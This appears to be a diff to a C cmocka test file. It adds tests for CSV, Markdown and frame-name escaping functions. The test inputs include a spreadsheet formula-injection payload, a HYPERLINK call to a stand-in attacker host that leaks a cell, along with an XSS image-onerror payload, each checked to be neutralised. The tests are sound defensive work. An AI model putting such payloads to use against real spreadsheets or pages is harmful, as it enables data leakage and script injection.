@@ -16,6 +16,7 @@
 
 #include "util/clock.h"
 #include "util/err.h"
+#include "util/escape.h"
 #include "util/fsafe.h"
 #include "util/parse.h"
 #include "util/units.h"
@@ -142,6 +143,101 @@ static struct stat fake_stat(mode_t mode, uid_t uid, gid_t gid)
 	st.st_uid = uid;
 	st.st_gid = gid;
 	return st;
+}
+
+static const char *csv(const char *in)
+{
+	static char out[256];
+	assert_true(ESCAPE_CSV_BYTES(strlen(in)) <= sizeof(out));
+	size_t n = escape_csv(out, in);
+	assert_int_equal(n, strlen(out));
+	return out;
+}
+
+static void test_escape_csv(void **state)
+{
+	(void)state;
+	assert_string_equal(csv(""), "");
+	assert_string_equal(csv("load"), "load");
+	assert_string_equal(csv("a,b"), "\"a,b\"");
+	assert_string_equal(csv("a,b,\"c"), "\"a,b,\"\"c\"");
+	assert_string_equal(csv("two\nlines\r"), "\"two\nlines\r\"");
+	/* what a spreadsheet would evaluate: quoted, with a ' first (OWASP) */
+	assert_string_equal(csv("=HYPERLINK(\"http://evil.example/?x\",A1)"),
+			    "\"'=HYPERLINK(\"\"http://evil.example/?x\"\",A1)\"");
+	assert_string_equal(csv("+cmd"), "\"'+cmd\"");
+	assert_string_equal(csv("-2+3"), "\"'-2+3\"");
+	assert_string_equal(csv("@SUM(A1)"), "\"'@SUM(A1)\"");
+	assert_string_equal(csv("\tx"), "\"'\tx\"");
+	assert_string_equal(csv("\rx"), "\"'\rx\"");
+	assert_string_equal(csv("-"), "\"'-\"");
+	assert_string_equal(csv("-1."), "\"'-1.\"");
+	/* a plain number is a value, not a formula */
+	assert_string_equal(csv("-1.5"), "-1.5");
+	assert_string_equal(csv("+2"), "+2");
+	assert_string_equal(csv("a=b"), "a=b");
+	/* the worst case fills ESCAPE_CSV_BYTES exactly */
+	char in[9] = "=\"\"\"\"\"\"\"", out[ESCAPE_CSV_BYTES(8)];
+	assert_int_equal(escape_csv(out, in), sizeof(out) - 1);
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+	char big[400];
+	memset(big, ',', sizeof(big) - 1);
+	big[sizeof(big) - 1] = '\0';
+	assert_true(escape_csv_fputs(big, f) >= 0);
+	fclose(f);
+	assert_int_equal(len, sizeof(big) + 1);
+	free(buf);
+}
+
+static char *md(void (*fn)(const char *, FILE *), const char *in)
+{
+	static char *buf;
+	size_t len = 0;
+	free(buf);
+	buf = NULL;
+	FILE *f = open_memstream(&buf, &len);
+	fn(in, f);
+	fclose(f);
+	return buf;
+}
+
+static void test_escape_markdown(void **state)
+{
+	(void)state;
+	assert_string_equal(md(escape_markdown, "wall_s"), "wall_s");
+	assert_string_equal(md(escape_markdown, "phase:step"), "phase:step");
+	assert_string_equal(md(escape_markdown, "<img/src=x onerror=alert(1)>"),
+			    "&lt;img/src=x onerror=alert(1)&gt;");
+	assert_string_equal(md(escape_markdown, "a|b\\c&d"), "a\\|b\\\\c&amp;d");
+	assert_string_equal(md(escape_markdown, "![x](http://e.example)"), "!\\[x\\](http://e.example)");
+	assert_string_equal(md(escape_markdown, "**b** `c` ~~s~~"), "\\*\\*b\\*\\* \\`c\\` \\~\\~s\\~\\~");
+	assert_string_equal(md(escape_markdown, "_em_ snake_case _"), "\\_em\\_ snake_case \\_");
+	assert_string_equal(md(escape_markdown, "two\nlines\r\x1b"), "two lines  ");
+	assert_string_equal(md(escape_markdown, "\u00a0\u00a0nested"), "\u00a0\u00a0nested");
+	assert_string_equal(md(escape_markdown_code, "a|b `c` <d>\n"), "a\\|b 'c' <d> ");
+}
+
+static void test_escape_frame(void **state)
+{
+	(void)state;
+	const char *in[] = { "x;main;fake", "100%", "a\nb\r", "plain+nested", "%3B", "" };
+	const char *want[] = { "x%3Bmain%3Bfake", "100%25", "a%0Ab%0D", "plain+nested", "%253B", "" };
+	for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++) {
+		char out[64], back[64];
+		assert_int_equal(escape_frame(out, in[i]), strlen(want[i]));
+		assert_string_equal(out, want[i]);
+		size_t n = strlen(out);
+		assert_int_equal(escape_frame_decode(back, out, n), strlen(in[i]));
+		assert_string_equal(back, in[i]);
+	}
+	char back[16];
+	/* a '%' without two hex digits is itself */
+	assert_int_equal(escape_frame_decode(back, "a%4", 3), 3);
+	assert_string_equal(back, "a%4");
+	assert_int_equal(escape_frame_decode(back, "%zz%41", 6), 4);
+	assert_string_equal(back, "%zzA");
 }
 
 static void test_fsafe_problem(void **state)
@@ -336,6 +432,9 @@ int main(void)
 		cmocka_unit_test(test_units),
 		cmocka_unit_test(test_clock_format),
 		cmocka_unit_test(test_err),
+		cmocka_unit_test(test_escape_csv),
+		cmocka_unit_test(test_escape_markdown),
+		cmocka_unit_test(test_escape_frame),
 		cmocka_unit_test(test_fsafe_problem),
 		cmocka_unit_test(test_fsafe_check_path),
 		cmocka_unit_test(test_fsafe_open_stream),
